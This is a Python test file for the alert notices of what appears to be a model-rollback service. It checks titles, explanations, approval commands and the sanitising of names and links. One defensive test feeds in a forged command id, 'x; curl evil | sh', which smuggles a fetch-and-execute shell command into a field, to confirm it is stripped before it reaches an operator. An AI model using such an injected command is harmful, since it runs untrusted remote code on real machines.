"""What people are told, and in which words."""

import pytest

from schemas.incidents import Entry, Incident, fold
from service.alert.route import MAX_NAME, MAX_TEXT, Notice, harmless, route, undelivered
from service.record.ledger import (
    entry_of_breach,
    entry_of_command,
    entry_of_progress,
    entry_of_receipt,
)
from tests.builders import (
    NOW,
    a_breach,
    a_command,
    a_guard_verdict,
    a_progress,
    a_proposal,
    a_receipt,
    an_entry,
)


def told(*entries: Entry, public_url: str | None = None) -> Notice | None:
    incident = fold(entries)
    assert isinstance(incident, Incident)
    return route(incident, entries[-1], public_url)


def opened(**changes: object) -> Entry:
    return entry_of_breach(a_breach(**changes), None, NOW)


def test_one_message_says_what_why_and_what_was_done() -> None:
    """If this breaks, someone who is woken has to open three pages to learn what happened."""
    verified = entry_of_progress(a_progress(), "v42", NOW)

    notice = told(opened(), entry_of_receipt(a_receipt(), NOW), verified)

    assert notice is not None
    assert "credit-risk: v42 rolled back to v41, confirmed by traffic" == notice.title
    assert "v42 fails error_rate: 0.081 against 0.05 allowed" == notice.what
    assert (
        "error_rate 0.081 [0.072, 0.093], limit 0.05, stable 0.039, from 4,210 events" == notice.why
    )
    assert "v42 has 0.0 % of the last 80 predictions" == notice.done
    assert ("good", "verified", NOW + 9000) == (notice.tone, notice.state, notice.at)


def test_a_proposal_says_what_to_type() -> None:
    """If this breaks, nobody knows how to approve at three in the morning."""
    notice = told(opened(), entry_of_progress(a_proposal(), "v42", NOW))

    assert notice is not None
    assert "credit-risk: v42 fails error_rate; rollback to v41 waits for approval" == notice.title
    command_id = a_command().command_id
    assert [f"rollbackd approve {command_id}", f"rollbackd reject {command_id}"] == notice.commands


def test_what_is_typed_into_a_shell_holds_nothing_but_an_id() -> None:
    """If this breaks, a forged proposal puts its own command into an operator's shell."""
    forged = a_proposal(command_id="x; curl evil | sh")

    notice = told(opened(), entry_of_progress(forged, "v42", NOW))

    assert notice is not None
    assert "rollbackd approve xcurlevilsh" == notice.commands[0]


@pytest.mark.parametrize(
    ("kind", "reason", "title", "tone"),
    [
        ("withheld", "cooldown", "v42 fails error_rate; nothing was done (cooldown)", "problem"),
        ("unverified", "share", "rollback of v42 is not seen in traffic", "person"),
        ("escalated", "share", "v42 needs a person now", "person"),
        ("paged", "share", "v42 needs a person now", "person"),
        ("receipt", "failed", "rollback of v42 to v41 failed", "person"),
        ("receipt", "superseded", "rollback of v42 to v41 superseded", "person"),
    ],
)
def test_each_kind_has_its_own_words(kind: str, reason: str, title: str, tone: str) -> None:
    """If this breaks, a failed rollback reads like a done one."""
    notice = told(opened(), an_entry(kind=kind, reason=reason, text="because"))

    assert notice is not None
    assert (f"credit-risk: {title}", tone) == (notice.title, notice.tone)
    assert "because" == notice.done


@pytest.mark.parametrize("kind", ["evidence", "command", "approved", "rejected", "note"])
def test_what_nobody_needs_to_hear_is_not_told(kind: str) -> None:
    """If this breaks, people mute the channel."""
    assert told(opened(), an_entry(kind=kind)) is None


@pytest.mark.parametrize("status", ["applied", "already_there"])
def test_a_good_receipt_waits_for_traffic(status: str) -> None:
    """If this breaks, "done" is told before traffic has confirmed it."""
    assert told(opened(), entry_of_receipt(a_receipt(status=status), NOW)) is None


def test_an_alert_only_guard_says_that_it_only_alerts() -> None:
    """If this breaks, people wait for a rollback that never comes."""
    notice = told(opened(action="alert", guard="score"))

    assert notice is not None
    assert "credit-risk: v42: alert on score" == notice.title
    assert "Nothing: this guard only alerts." == notice.done


def test_numbers_that_are_missing_are_left_out() -> None:
    """If this breaks, a detector without an interval stops all notifications."""
    bare = a_guard_verdict(
        lower=None, upper=None, stable_estimate=None, n=0, estimate=None, limit=None
    )
    many = [
        entry_of_breach(a_breach(breach_id=f"b{n}", guard=f"g{n}", evidence=bare), "other", NOW)
        for n in range(4)
    ]

    notice = told(opened(evidence=bare), *many[1:], an_entry(kind="paged"))

    assert notice is not None
    assert "error_rate; error_rate; error_rate; and 1 more" == notice.why


def test_a_link_is_made_only_from_our_own_address() -> None:
    """If this breaks, a name becomes a link in chat."""
    notice = told(opened(), public_url="https://rollbackd.example/")

    assert notice is not None
    assert f"https://rollbackd.example/#incident={opened().incident_id}" == notice.link
    bare = told(opened())
    assert bare is not None
    assert bare.link is None


def test_names_that_hide_something_are_made_visible_and_short() -> None:
    """If this breaks, a model's name writes its own message into the channel."""
    name = "a\u202eb\u200b\x1b[31mc\nd\U000e0041" + "x" * 10_000

    notice = told(opened(model=name, text="t" * 9000))

    assert notice is not None
    assert notice.model.startswith("ab[31mc dxxx")
    assert (MAX_NAME, MAX_TEXT) == (len(notice.model), len(notice.what))
    assert "" == harmless("\u200b\u2066\ufeff", 10)


def test_trouble_with_an_endpoint_is_the_same_notice_all_day() -> None:
    """If this breaks, a dead channel floods the living ones."""
    first, second = undelivered("slack-1", "slack answered 404", 20_000), undelivered(
        "slack-1", "slack answered 404", 20_000
    )  # fmt: skip

    assert first == second
    assert first.notice_id != undelivered("slack-1", "slack answered 404", 20_001).notice_id


def test_a_command_alone_does_not_tell() -> None:
    """If this breaks, each rollback makes one message more than needed."""
    assert told(opened(), entry_of_command(a_command(), NOW)) is None
